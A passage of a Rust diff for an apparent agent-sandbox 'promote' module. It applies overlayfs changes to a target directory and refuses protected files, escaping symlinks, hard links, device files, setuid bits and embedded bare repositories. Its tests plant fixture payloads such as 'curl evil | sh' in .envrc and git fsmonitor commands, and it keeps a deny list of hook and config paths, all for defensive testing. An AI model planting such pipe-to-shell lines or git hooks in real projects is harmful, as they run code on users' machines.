+                    Ok(Existing::Symlink) | Err(_)
+                ),
+            };
+            if through {
+                refused.push((
+                    link.clone(),
+                    Refusal::SymlinkThroughLink {
+                        via: prefix.clone(),
+                    },
+                ));
+                break;
+            }
+        }
+    }
+
+    // A directory outside .git that ends up with HEAD, objects/ and refs/ is a bare
+    // repository to git: its config would run commands for whoever runs git there.
+    let mut dirs_touched: BTreeSet<PathBuf> = BTreeSet::new();
+    for e in &entries {
+        if e.op != Op::Delete {
+            dirs_touched.insert(e.path.parent().unwrap_or(Path::new("")).to_owned());
+        }
+    }
+    for d in dirs_touched {
+        if d.iter().any(|c| c == ".git") {
+            continue;
+        }
+        let mut names: BTreeSet<Vec<u8>> = BTreeSet::new();
+        let fresh_dir = fresh.contains(&d) || d.ancestors().skip(1).any(|a| fresh.contains(a));
+        if !fresh_dir {
+            let fd = if d.as_os_str().is_empty() {
+                rustix::io::fcntl_dupfd_cloexec(&root, 0).map_err(io_at("open", target))
+            } else {
+                rustix::fs::openat2(
+                    &root,
+                    &d,
+                    OFlags::RDONLY | OFlags::DIRECTORY | OFlags::CLOEXEC,
+                    Mode::empty(),
+                    ResolveFlags::BENEATH | ResolveFlags::NO_SYMLINKS | ResolveFlags::NO_MAGICLINKS,
+                )
+                .map_err(io_at("open directory", &d))
+            };
+            if let Ok(fd) = fd {
+                names.extend(names_of(&fd, &d)?.into_iter().map(CString::into_bytes));
+            }
+        }
+        for e in &entries {
+            if e.path.parent().unwrap_or(Path::new("")) == d {
+                let n = e.path.file_name().unwrap_or_default().as_bytes().to_vec();
+                if e.op == Op::Delete {
+                    names.remove(&n);
+                } else {
+                    names.insert(n);
+                }
+            }
+        }
+        if [&b"HEAD"[..], b"objects", b"refs"]
+            .iter()
+            .all(|n| names.contains(*n))
+        {
+            refused.push((d, Refusal::EmbeddedRepo));
+        }
+    }
+    refused.sort_by(|a, b| a.0.cmp(&b.0));
+    let digest = digest(&entries);
+    Ok(Plan {
+        entries,
+        refused,
+        digest,
+        owner,
+        target: target.to_owned(),
+        root,
+        staging,
+    })
+}
+
+/// `sha256:` over every step: kind, path, and the mode and content hash of a file, the
+/// target of a symlink, whether a directory is cleared.
+fn digest(entries: &[Entry]) -> String {
+    let mut h = Sha256::new();
+    for e in entries {
+        h.update([e.kind.letter() as u8, b' ']);
+        h.update(e.path.as_os_str().as_bytes());
+        h.update([0]);
+        match &e.op {
+            Op::Delete => h.update(b"delete"),
+            Op::Dir { clear } => h.update(if *clear { &b"dir clear"[..] } else { b"dir" }),
+            Op::File { mode, size, sha256 } => {
+                h.update(format!("file {mode:o} {size} ").as_bytes());
+                h.update(sha256);
+            }
+            Op::Symlink { target } => {
+                h.update(b"symlink ");
+                h.update(target.as_os_str().as_bytes());
+            }
+        }
+        h.update(b"\n");
+    }
+    format!("sha256:{}", hex::encode(h.finalize()))
+}
+
+impl Plan {
+    /// The target directory.
+    pub fn target(&self) -> &Path {
+        &self.target
+    }
+
+    /// The `promoted` audit event for the entries in `applied` (all of them when complete).
+    pub fn event(&self, applied: &[PathBuf], complete: bool) -> Event {
+        let done: BTreeSet<&Path> = applied.iter().map(PathBuf::as_path).collect();
+        let paths: Vec<String> = self
+            .entries
+            .iter()
+            .filter(|e| done.contains(e.path.as_path()))
+            .take(MAX_CHANGED_PATHS)
+            .map(|e| format!("{} /{}", e.kind.letter(), e.path.to_string_lossy()))
+            .collect();
+        Event::Promoted {
+            target: self.target.to_string_lossy().into_owned(),
+            digest: self.digest.clone(),
+            entries: applied.len() as u64,
+            truncated: applied.len() > MAX_CHANGED_PATHS,
+            paths,
+            complete,
+        }
+    }
+}
+
+/// Walks to the parent of `rel` from the target root, `O_NOFOLLOW` on every component,
+/// creating missing directories (0755, the target's owner).
+fn open_parent_dir(
+    root: &OwnedFd,
+    rel: &Path,
+    owner: (u32, u32),
+) -> Result<OwnedFd, (&'static str, Errno)> {
+    let mut cur = rustix::io::fcntl_dupfd_cloexec(root, 0).map_err(|e| ("open", e))?;
+    let Some(parent) = rel.parent() else {
+        return Ok(cur);
+    };
+    for comp in parent.iter() {
+        let open = |dir: &OwnedFd| {
+            rustix::fs::openat(
+                dir,
+                comp,
+                OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
+                Mode::empty(),
+            )
+        };
+        cur = match open(&cur) {
+            Ok(fd) => fd,
+            Err(Errno::NOENT) => {
+                rustix::fs::mkdirat(&cur, comp, Mode::from_raw_mode(0o755))
+                    .map_err(|e| ("create directory", e))?;
+                let fd = open(&cur).map_err(|e| ("open directory", e))?;
+                chown_if_needed(fd.as_fd(), owner).map_err(|e| ("chown", e))?;
+                fd
+            }
+            Err(e) => return Err(("open directory", e)),
+        };
+    }
+    Ok(cur)
+}
+
+/// Removes `name` in `dir`: a whole tree for a directory, never following a link.
+fn remove_tree(dir: BorrowedFd<'_>, name: &CStr) -> Result<(), Errno> {
+    let st = match rustix::fs::statat(dir, name, AtFlags::SYMLINK_NOFOLLOW) {
+        Ok(st) => st,
+        Err(Errno::NOENT) => return Ok(()),
+        Err(e) => return Err(e),
+    };
+    if FileType::from_raw_mode(st.st_mode) != FileType::Directory {
+        return rustix::fs::unlinkat(dir, name, AtFlags::empty());
+    }
+    let sub = rustix::fs::openat(
+        dir,
+        name,
+        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
+        Mode::empty(),
+    )?;
+    clear_dir(&sub)?;
+    rustix::fs::unlinkat(dir, name, AtFlags::REMOVEDIR)
+}
+
+fn clear_dir(dir: &OwnedFd) -> Result<(), Errno> {
+    let mut names = Vec::new();
+    for entry in Dir::read_from(dir)? {
+        let entry = entry?;
+        let n = entry.file_name();
+        if n.to_bytes() != b"." && n.to_bytes() != b".." {
+            names.push(n.to_owned());
+        }
+    }
+    for n in names {
+        remove_tree(dir.as_fd(), n.as_c_str())?;
+    }
+    Ok(())
+}
+
+fn apply_one(
+    root: &OwnedFd,
+    staging: &Staging,
+    e: &Entry,
+    owner: (u32, u32),
+) -> Result<(), (&'static str, Errno)> {
+    let parent = open_parent_dir(root, &e.path, owner)?;
+    let name = CString::new(e.path.file_name().unwrap_or_default().as_bytes())
+        .map_err(|_| ("resolve", Errno::INVAL))?;
+    let now = match rustix::fs::statat(&parent, name.as_c_str(), AtFlags::SYMLINK_NOFOLLOW) {
+        Ok(st) => file_type(&st),
+        Err(Errno::NOENT) => Existing::Absent,
+        Err(e) => return Err(("stat", e)),
+    };
+    // Only a tree the plan scanned may be removed.
+    if now == Existing::Dir && e.existing != Existing::Dir && !matches!(e.op, Op::Dir { .. }) {
+        return Err(("check (a directory appeared since the plan)", Errno::EXIST));
+    }
+    match &e.op {
+        Op::Delete => remove_tree(parent.as_fd(), &name).map_err(|err| ("remove", err)),
+        Op::Dir { clear } => {
+            if now == Existing::Dir {
+                if *clear {
+                    let d = rustix::fs::openat(
+                        &parent,
+                        name.as_c_str(),
+                        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
+                        Mode::empty(),
+                    )
+                    .map_err(|err| ("open directory", err))?;
+                    clear_dir(&d).map_err(|err| ("clear directory", err))?;
+                }
+                return Ok(());
+            }
+            if now != Existing::Absent {
+                rustix::fs::unlinkat(&parent, name.as_c_str(), AtFlags::empty())
+                    .map_err(|err| ("remove", err))?;
+            }
+            rustix::fs::mkdirat(&parent, name.as_c_str(), Mode::from_raw_mode(0o755))
+                .map_err(|err| ("create directory", err))?;
+            let d = rustix::fs::openat(
+                &parent,
+                name.as_c_str(),
+                OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
+                Mode::empty(),
+            )
+            .map_err(|err| ("open directory", err))?;
+            chown_if_needed(d.as_fd(), owner).map_err(|err| ("chown", err))?;
+            rustix::fs::fchmod(&d, Mode::from_raw_mode(0o755)).map_err(|err| ("chmod", err))
+        }
+        Op::File { .. } | Op::Symlink { .. } => {
+            if now == Existing::Dir {
+                remove_tree(parent.as_fd(), &name).map_err(|err| ("remove", err))?;
+            }
+            let staged = e
+                .staged
+                .as_ref()
+                .ok_or(("find staged copy", Errno::NOENT))?;
+            rustix::fs::renameat(&staging.fd, staged.as_c_str(), &parent, name.as_c_str())
+                .map_err(|err| ("rename into place", err))
+        }
+    }
+}
+
+/// Applies a plan made by [`prepare`] with staging and without refusals. Returns the
+/// paths applied (all of them). A failing step stops it with [`PromoteError::Partial`],
+/// which names the step and what was applied before it.
+pub fn apply(plan: &Plan) -> Result<Vec<PathBuf>, PromoteError> {
+    if !plan.refused.is_empty() {
+        return Err(PromoteError::NotApplicable {
+            why: "it refuses entries",
+        });
+    }
+    let Some(staging) = plan.staging.as_ref() else {
+        return Err(PromoteError::NotApplicable {
+            why: "it was prepared as a dry run",
+        });
+    };
+    let mut applied = Vec::with_capacity(plan.entries.len());
+    for e in &plan.entries {
+        if let Err((op, err)) = apply_one(&plan.root, staging, e, plan.owner) {
+            return Err(PromoteError::Partial {
+                path: e.path.clone(),
+                op,
+                applied,
+                total: plan.entries.len(),
+                source: err.into(),
+            });
+        }
+        applied.push(e.path.clone());
+    }
+    Ok(applied)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::os::unix::fs::{MetadataExt as _, PermissionsExt as _, symlink};
+
+    type TestResult = Result<(), Box<dyn std::error::Error>>;
+
+    fn rules() -> Rules {
+        Rules::new([
+            ".git/hooks/",
+            ".git/config",
+            ".bashrc",
+            ".envrc",
+            ".mcp.json",
+            ".vscode/",
+            ".cargo/config.toml",
+        ])
+    }
+
+    struct Fixture {
+        _dir: tempfile::TempDir,
+        upper: PathBuf,
+        lower: PathBuf,
+        target: PathBuf,
+        outside: PathBuf,
+    }
+
+    fn fixture() -> Result<Fixture, Box<dyn std::error::Error>> {
+        let dir = tempfile::tempdir()?;
+        let p = dir.path().to_owned();
+        let f = Fixture {
+            upper: p.join("upper"),
+            lower: p.join("lower"),
+            target: p.join("target"),
+            outside: p.join("outside"),
+            _dir: dir,
+        };
+        for d in [&f.upper, &f.lower, &f.target, &f.outside] {
+            std::fs::create_dir(d)?;
+        }
+        Ok(f)
+    }
+
+    impl Fixture {
+        fn plan(&self, stage: bool) -> Result<Plan, PromoteError> {
+            let changes = crate::diff(&self.upper, Some(&self.lower))?;
+            prepare(&self.upper, &changes, &self.target, &rules(), stage)
+        }
+
+        fn refused(&self) -> Result<Vec<(String, Refusal)>, PromoteError> {
+            let plan = self.plan(true)?;
+            assert!(apply(&plan).is_err(), "a refusing plan must not apply");
+            Ok(plan
+                .refused
+                .iter()
+                .map(|(p, r)| (p.to_string_lossy().into_owned(), r.clone()))
+                .collect())
+        }
+
+        /// Every path in the target with its content (files), target (links) or `dir`.
+        fn snapshot(&self) -> Vec<(String, String)> {
+            let mut out = Vec::new();
+            let mut stack = vec![self.target.clone()];
+            while let Some(d) = stack.pop() {
+                for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
+                    let p = e.path();
+                    let rel = p
+                        .strip_prefix(&self.target)
+                        .unwrap_or(&p)
+                        .to_string_lossy()
+                        .into_owned();
+                    let m = std::fs::symlink_metadata(&p).ok();
+                    let what = match m {
+                        Some(m) if m.file_type().is_symlink() => {
+                            format!("-> {:?}", std::fs::read_link(&p).ok())
+                        }
+                        Some(m) if m.is_dir() => {
+                            stack.push(p.clone());
+                            "dir".to_owned()
+                        }
+                        _ => std::fs::read_to_string(&p).unwrap_or_default(),
+                    };
+                    out.push((rel, what));
+                }
+            }
+            out.sort();
+            out
+        }
+    }
+
+    fn write(path: &Path, text: &str) -> io::Result<()> {
+        if let Some(p) = path.parent() {
+            std::fs::create_dir_all(p)?;
+        }
+        std::fs::write(path, text)
+    }
+
+    #[test]
+    fn protected_names_match_at_any_depth() {
+        let r = rules();
+        for p in [
+            ".envrc",
+            "pkg/.envrc",
+            "a/b/.bashrc",
+            ".vscode/tasks.json",
+            "sub/.vscode",
+            "x/.cargo/config.toml",
+            "vendor/lib/.git/hooks/post-checkout",
+        ] {
+            assert!(
+                r.check(Path::new(p), FileKind::File, false).is_some(),
+                "{p} passed"
+            );
+        }
+        for p in [
+            "src/envrc",
+            ".envrc.example/x",
+            "cargo/config.toml",
+            "a/.bashrc.d",
+        ] {
+            assert_eq!(r.check(Path::new(p), FileKind::File, false), None, "{p}");
+        }
+    }
+
+    #[test]
+    fn git_internals_outside_the_commit_allowlist_are_refused() {
+        let r = rules();
+        let refused = |p: &str, k| r.check(Path::new(p), k, false);
+        for p in [
+            ".git/objects/ab/cdef0123",
+            ".git/objects/pack/pack-1.pack",
+            ".git/refs/heads/main",
+            ".git/logs/HEAD",
+            ".git/logs/refs/heads/main",
+            ".git/index",
+            ".git/HEAD",
+            ".git/ORIG_HEAD",
+            ".git/COMMIT_EDITMSG",
+            ".git/packed-refs",
+            "sub/.git/HEAD",
+        ] {
+            assert_eq!(refused(p, FileKind::File), None, "{p}");
+        }
+        assert_eq!(refused(".git", FileKind::Dir), None);
+        assert_eq!(refused(".git/objects", FileKind::Dir), None);
+        for p in [
+            ".git/config",
+            ".git/config.worktree",
+            ".git/commondir",
+            ".git/hooks/pre-commit",
+            ".git/info/attributes",
+            ".git/info/exclude",
+            ".git/modules/x/config",
+            ".git/worktrees/w/gitdir",
+            ".git/objects/info/alternates",
+            ".git/shallow",
+            "a/.git/index.lock",
+        ] {
+            assert!(refused(p, FileKind::File).is_some(), "{p} passed");
+        }
+        assert_eq!(
+            refused("sub/.git", FileKind::File),
+            Some(Refusal::GitNotDir)
+        );
+        assert_eq!(refused(".git", FileKind::Symlink), Some(Refusal::GitNotDir));
+        assert_eq!(
+            refused(".git/HEAD", FileKind::Symlink),
+            Some(Refusal::GitSymlink)
+        );
+        assert!(refused(".git/hooks", FileKind::Dir).is_some());
+        assert_eq!(
+            r.check(Path::new(".git"), FileKind::Dir, true),
+            Some(Refusal::GitRemoved)
+        );
+        assert_eq!(
+            r.check(Path::new(".git/refs/heads/x"), FileKind::File, true),
+            None
+        );
+    }
+
+    #[test]
+    fn control_characters_and_reserved_names_are_refused() {
+        let r = rules();
+        assert_eq!(
+            r.check(Path::new("a\x1b[2Kb"), FileKind::File, false),
+            Some(Refusal::BadName)
+        );
+        assert_eq!(
+            r.check(
+                Path::new(OsStr::from_bytes(b"bad\xff")),
+                FileKind::File,
+                false
+            ),
+            Some(Refusal::BadName)
+        );
+        for p in [
+            ".agent-sandbox-deleted",
+            "sub/.agent-sandbox-opaque",
+            ".agent-sandbox-promote-1",
+        ] {
+            assert_eq!(
+                r.check(Path::new(p), FileKind::File, false),
+                Some(Refusal::Reserved),
+                "{p}"
+            );
+        }
+    }
+
+    #[test]
+    fn symlink_targets_resolve_lexically_inside_the_tree() {
+        let ok = |l: &str, t: &str| resolve_link(Path::new(l), Path::new(t));
+        assert_eq!(ok("a/b/link", "../c"), Ok(PathBuf::from("a/c")));
+        assert_eq!(ok("link", "./x/y"), Ok(PathBuf::from("x/y")));
+        assert_eq!(ok("a/link", ".."), Ok(PathBuf::new()));
+        assert_eq!(ok("link", ".."), Err(Refusal::SymlinkEscapes));
+        assert_eq!(ok("a/link", "../../etc"), Err(Refusal::SymlinkEscapes));
+        assert_eq!(ok("link", "/etc/passwd"), Err(Refusal::SymlinkAbsolute));
+        assert_eq!(ok("a/link", "x/../../y"), Err(Refusal::SymlinkDotDot));
+    }
+
+    #[test]
+    fn edits_creates_and_deletes_are_applied_with_the_targets_owner() -> TestResult {
+        let f = fixture()?;
+        for base in [&f.lower, &f.target] {
+            write(&base.join("keep.txt"), "keep\n")?;
+            write(&base.join("old.txt"), "old\n")?;
+            write(&base.join("edit.py"), "v1\n")?;
+            write(&base.join("gone/deep/x"), "x\n")?;
+            write(&base.join(".git/HEAD"), "ref: refs/heads/main\n")?;
+            write(&base.join(".git/config"), "[core]\n")?;
+        }
+        write(&f.upper.join("edit.py"), "v2\n")?;
+        std::fs::set_permissions(
+            f.upper.join("edit.py"),
+            std::fs::Permissions::from_mode(0o777),
+        )?;
+        write(&f.upper.join("new/dir/file.rs"), "fn main() {}\n")?;
+        write(&f.upper.join(".git/refs/heads/main"), "0123\n")?;
+        write(&f.upper.join(".git/objects/ab/cdef"), "blob")?;
+        symlink("../keep.txt", f.upper.join("new/link"))?;
+        // Whiteouts as overlayfs writes them with userxattr: a 0/0 char device needs
+        // mknod, so use the xattr form.
+        for gone in ["old.txt", "gone"] {
+            std::fs::write(f.upper.join(gone), "")?;
+            rustix::fs::lsetxattr(
+                f.upper.join(gone).as_path(),
+                "user.overlay.whiteout",
+                b"",
+                rustix::fs::XattrFlags::empty(),
+            )?;
+        }
+        let dry = f.plan(false)?;
+        assert!(dry.refused.is_empty(), "{:?}", dry.refused);
+        let before = f.snapshot();
+        assert!(apply(&dry).is_err(), "a dry run cannot be applied");
+        assert_eq!(f.snapshot(), before, "the dry run changed the target");
+
+        let plan = f.plan(true)?;
+        assert_eq!(plan.digest, dry.digest);
+        let lines: Vec<String> = plan.entries.iter().map(Entry::describe).collect();
+        assert!(
+            lines.contains(&"replace /edit.py (file 0755, 3 bytes)".to_owned()),
+            "{lines:?}"
+        );
+        assert!(lines.contains(&"delete  /gone".to_owned()), "{lines:?}");
+        let applied = apply(&plan)?;
+        assert_eq!(applied.len(), plan.entries.len());
+        drop(plan);
+        assert_eq!(std::fs::read_to_string(f.target.join("edit.py"))?, "v2\n");
+        let m = std::fs::metadata(f.target.join("edit.py"))?;
+        assert_eq!(m.mode() & 0o7777, 0o755);
+        assert_eq!(
+            std::fs::read_to_string(f.target.join("new/dir/file.rs"))?,
+            "fn main() {}\n"
+        );
+        assert_eq!(
+            std::fs::read_link(f.target.join("new/link"))?,
+            Path::new("../keep.txt")
+        );
+        assert!(!f.target.join("old.txt").exists() && !f.target.join("gone").exists());
+        assert_eq!(
+            std::fs::read_to_string(f.target.join(".git/config"))?,
+            "[core]\n"
+        );
+        assert_eq!(
+            std::fs::read_to_string(f.target.join(".git/refs/heads/main"))?,
+            "0123\n"
+        );
+        let owner = std::fs::metadata(&f.target)?;
+        for p in ["edit.py", "new", "new/dir/file.rs"] {
+            let m = std::fs::symlink_metadata(f.target.join(p))?;
+            assert_eq!((m.uid(), m.gid()), (owner.uid(), owner.gid()), "{p}");
+        }
+        // No staging directory is left behind.
+        assert!(
+            std::fs::read_dir(&f.target)?
+                .flatten()
+                .all(|e| !e.file_name().to_string_lossy().starts_with(STAGING_PREFIX))
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn one_refused_entry_leaves_the_target_untouched() -> TestResult {
+        let f = fixture()?;
+        write(&f.target.join("a.txt"), "host\n")?;
+        write(&f.lower.join("a.txt"), "host\n")?;
+        write(&f.upper.join("a.txt"), "agent\n")?;
+        write(&f.upper.join("pkg/.envrc"), "curl evil | sh\n")?;
+        write(&f.upper.join(".vscode/tasks.json"), "{}")?;
+        write(&f.upper.join(".git/commondir"), "../evil\n")?;
+        write(
+            &f.upper.join("evil/config"),
+            "[core]\n\tfsmonitor = touch /tmp/pwned\n",
+        )?;
+        write(&f.upper.join("sub/.git"), "gitdir: ../evil\n")?;
+        let before = f.snapshot();
+        let refused = f.refused()?;
+        let names: Vec<&str> = refused.iter().map(|(p, _)| p.as_str()).collect();
+        assert_eq!(
+            names,
+            [
+                ".git/commondir",
+                ".vscode",
+                ".vscode/tasks.json",
+                "pkg/.envrc",
+                "sub/.git"
+            ],
+            "{refused:?}"
+        );
+        assert_eq!(f.snapshot(), before);
+        Ok(())
+    }
+
+    #[test]
+    fn symlinks_leaving_the_tree_or_reaching_protected_paths_are_refused() -> TestResult {
+        let f = fixture()?;
+        symlink(&f.outside, f.upper.join("abs"))?;
+        symlink("../../outside", f.upper.join("rel"))?;
+        symlink(".git/config", f.upper.join("cfg"))?;
+        symlink("pkg/.envrc", f.upper.join("env"))?;
+        std::fs::create_dir(f.upper.join("d"))?;
+        symlink("../inner", f.upper.join("d/ok"))?;
+        symlink("abs/x", f.upper.join("via"))?;
+        let refused = f.refused()?;
+        let got: Vec<(&str, &Refusal)> = refused.iter().map(|(p, r)| (p.as_str(), r)).collect();
+        assert_eq!(got.len(), 5, "{got:?}");
+        assert!(got.contains(&("abs", &Refusal::SymlinkAbsolute)));
+        assert!(got.contains(&("rel", &Refusal::SymlinkEscapes)));
+        assert!(got.contains(&("cfg", &Refusal::SymlinkIntoGit)));
+        assert!(matches!(
+            got.iter().find(|g| g.0 == "env"),
+            Some((_, Refusal::SymlinkToRefused { .. }))
+        ));
+        assert!(matches!(
+            got.iter().find(|g| g.0 == "via"),
+            Some((_, Refusal::SymlinkThroughLink { .. }))
+        ));
+        assert!(f.snapshot().is_empty());
+        Ok(())
+    }
+
+    /// Round one (by a naive copy) left `assets -> ../outside` in the target; round two
+    /// writes `assets/pwn`. Promotion never writes through the link.
+    #[test]
+    fn a_symlink_already_in_the_target_is_never_written_through() -> TestResult {
+        let f = fixture()?;
+        symlink("../outside", f.target.join("assets"))?;
+        std::fs::create_dir(f.upper.join("assets"))?;
+        std::fs::create_dir(f.lower.join("assets"))?;
+        write(&f.upper.join("assets/pwn"), "agent\n")?;
+        // The sandbox saw a directory there (its lower layer differs from the target), so
+        // the change set only adds assets/pwn: its parent is the target's symlink.
+        let refused = f.refused()?;
+        assert_eq!(
+            refused,
+            [("assets/pwn".to_owned(), Refusal::ParentSymlink)],
+            "{refused:?}"
+        );
+        assert!(!f.outside.join("pwn").exists());
+
+        // Opaque (what overlayfs writes after rm + mkdir): the link itself is replaced.
+        rustix::fs::lsetxattr(
+            f.upper.join("assets").as_path(),
+            "user.overlay.opaque",
+            b"y",
+            rustix::fs::XattrFlags::empty(),
+        )?;
+        let plan = f.plan(true)?;
+        assert!(plan.refused.is_empty(), "{:?}", plan.refused);
+        apply(&plan)?;
+        assert!(!f.outside.join("pwn").exists(), "wrote through the symlink");
+        assert!(std::fs::symlink_metadata(f.target.join("assets"))?.is_dir());
+        assert_eq!(
+            std::fs::read_to_string(f.target.join("assets/pwn"))?,
+            "agent\n"
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn a_hard_link_in_the_target_is_replaced_not_written_through() -> TestResult {
+        let f = fixture()?;
+        write(&f.target.join("tools/run.sh"), "echo safe\n")?;
+        std::fs::create_dir(f.target.join("docs"))?;
+        std::fs::hard_link(f.target.join("tools/run.sh"), f.target.join("docs/notes"))?;
+        write(&f.lower.join("docs/notes"), "echo safe\n")?;
+        write(&f.upper.join("docs/notes"), "curl evil | sh\n")?;
+        let plan = f.plan(true)?;
+        assert!(plan.refused.is_empty(), "{:?}", plan.refused);
+        apply(&plan)?;
+        assert_eq!(
+            std::fs::read_to_string(f.target.join("tools/run.sh"))?,
+            "echo safe\n"
+        );
+        assert_eq!(
+            std::fs::read_to_string(f.target.join("docs/notes"))?,
+            "curl evil | sh\n"
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn hard_links_to_files_outside_the_change_set_are_refused() -> TestResult {
+        let f = fixture()?;
+        write(&f.outside.join("secret"), "host secret\n")?;
+        std::fs::hard_link(f.outside.join("secret"), f.upper.join("leak"))?;
+        write(&f.upper.join("a"), "a\n")?;
+        std::fs::hard_link(f.upper.join("a"), f.upper.join("b"))?;
+        let refused = f.refused()?;
+        assert_eq!(
+            refused,
+            [(
+                "leak".to_owned(),
+                Refusal::HardLink {
+                    nlink: 2,
+                    inside: 1
+                }
+            )]
+        );
+        assert!(f.snapshot().is_empty());
+        Ok(())
+    }
+
+    #[test]
+    fn special_files_and_setid_bits_are_refused() -> TestResult {
+        let f = fixture()?;
+        rustix::fs::mknodat(
+            rustix::fs::CWD,
+            f.upper.join("fifo").as_path(),
+            FileType::Fifo,
+            Mode::from_raw_mode(0o644),
+            0,
+        )?;
+        let _sock = std::os::unix::net::UnixListener::bind(f.upper.join("sock"))?;
+        // A real device (1:3, /dev/null), not a 0/0 whiteout (needs CAP_MKNOD: tests run as root).
+        rustix::fs::mknodat(
+            rustix::fs::CWD,
+            f.upper.join("null").as_path(),
+            FileType::CharacterDevice,
+            Mode::from_raw_mode(0o666),
+            rustix::fs::makedev(1, 3),
+        )?;
+        write(&f.upper.join("suid"), "#!/bin/sh\n")?;
+        std::fs::set_permissions(
+            f.upper.join("suid"),
+            std::fs::Permissions::from_mode(0o4755),
+        )?;
+        write(&f.upper.join("sgid"), "#!/bin/sh\n")?;
+        std::fs::set_permissions(
+            f.upper.join("sgid"),
+            std::fs::Permissions::from_mode(0o2755),
+        )?;
+        let refused = f.refused()?;
+        assert_eq!(
+            refused,
+            [
+                (
+                    "fifo".to_owned(),
+                    Refusal::Special {
+                        kind: FileKind::Fifo
+                    }
+                ),
+                (
+                    "null".to_owned(),
+                    Refusal::Special {
+                        kind: FileKind::CharDevice
+                    }
+                ),
+                ("sgid".to_owned(), Refusal::SetId { mode: 0o2755 }),
+                (
+                    "sock".to_owned(),
+                    Refusal::Special {
+                        kind: FileKind::Socket
+                    }
+                ),
+                ("suid".to_owned(), Refusal::SetId { mode: 0o4755 }),
+            ]
+        );
+        assert!(f.snapshot().is_empty());
+        Ok(())
+    }
+
+    #[test]
+    fn deleting_a_tree_that_holds_protected_names_is_refused() -> TestResult {
+        let f = fixture()?;
+        write(&f.target.join("vendor/lib/.git/config"), "[core]\n")?;
+        write(&f.lower.join("vendor/x"), "x")?;
+        std::fs::write(f.upper.join("vendor"), "")?;
+        rustix::fs::lsetxattr(
+            f.upper.join("vendor").as_path(),
+            "user.overlay.whiteout",
+            b"",
+            rustix::fs::XattrFlags::empty(),
+        )?;
+        let refused = f.refused()?;
+        assert!(
+            matches!(refused.as_slice(), [(p, Refusal::RemovesRefused { .. })] if p == "vendor"),
+            "{refused:?}"
+        );
+        assert!(f.target.join("vendor/lib/.git/config").exists());
+        Ok(())
+    }
+
+    #[test]
+    fn an_embedded_bare_repository_is_refused() -> TestResult {
+        let f = fixture()?;
+        write(
+            &f.upper.join("fixtures/repo/HEAD"),
+            "ref: refs/heads/main\n",
+        )?;
+        write(
+            &f.upper.join("fixtures/repo/config"),
+            "[core]\n\tfsmonitor = id\n",
+        )?;
+        std::fs::create_dir_all(f.upper.join("fixtures/repo/objects"))?;
+        std::fs::create_dir_all(f.upper.join("fixtures/repo/refs"))?;
+        let refused = f.refused()?;
+        assert_eq!(
+            refused,
+            [("fixtures/repo".to_owned(), Refusal::EmbeddedRepo)]
+        );
+        Ok(())
+    }
+
+    /// The target changes between the check and the apply (someone swaps a directory for a
+    /// symlink): the apply stops there, names what it applied, and writes nothing outside.
+    #[test]
+    fn a_target_swapped_after_the_check_stops_the_apply_and_names_what_was_applied() -> TestResult {
+        let f = fixture()?;
+        std::fs::create_dir(f.target.join("d"))?;
+        std::fs::create_dir(f.lower.join("d"))?;
+        write(&f.upper.join("a.txt"), "a\n")?;
+        std::fs::create_dir(f.upper.join("d"))?;
+        write(&f.upper.join("d/x"), "x\n")?;
+        let plan = f.plan(true)?;
+        assert!(plan.refused.is_empty(), "{:?}", plan.refused);
+        std::fs::remove_dir(f.target.join("d"))?;
+        symlink(&f.outside, f.target.join("d"))?;
+        let err = apply(&plan).err();
+        let Some(PromoteError::Partial {
+            path,
+            applied,
+            total,
+            ..
+        }) = &err
+        else {
+            return Err(format!("expected a partial apply, got {err:?}").into());
+        };
+        assert_eq!(
+            (path.as_path(), applied.as_slice(), *total),
+            (Path::new("d/x"), &[PathBuf::from("a.txt")][..], 2)
+        );
+        assert!(
+            !f.outside.join("x").exists(),
+            "wrote through the swapped-in symlink"
+        );
+        let Event::Promoted {
+            complete, paths, ..
+        } = plan.event(applied, false)
+        else {
+            return Err("not a promoted event".into());
+        };
+        assert_eq!((complete, paths), (false, vec!["A /a.txt".to_owned()]));
+        Ok(())
+    }
+
+    #[test]
+    fn the_audit_event_lists_what_was_applied() -> TestResult {
+        let f = fixture()?;
+        write(&f.upper.join("a"), "a")?;
+        let plan = f.plan(true)?;
+        let applied = apply(&plan)?;
+        let Event::Promoted {
+            entries,
+            paths,
+            digest,
+            complete,
+            ..
+        } = plan.event(&applied, true)
+        else {
+            return Err("not a promoted event".into());
+        };
+        assert_eq!((entries, complete), (1, true));
+        assert_eq!(paths, ["A /a"]);
+        assert!(digest.starts_with("sha256:") && digest.len() == 71);
+        Ok(())
+    }
+}
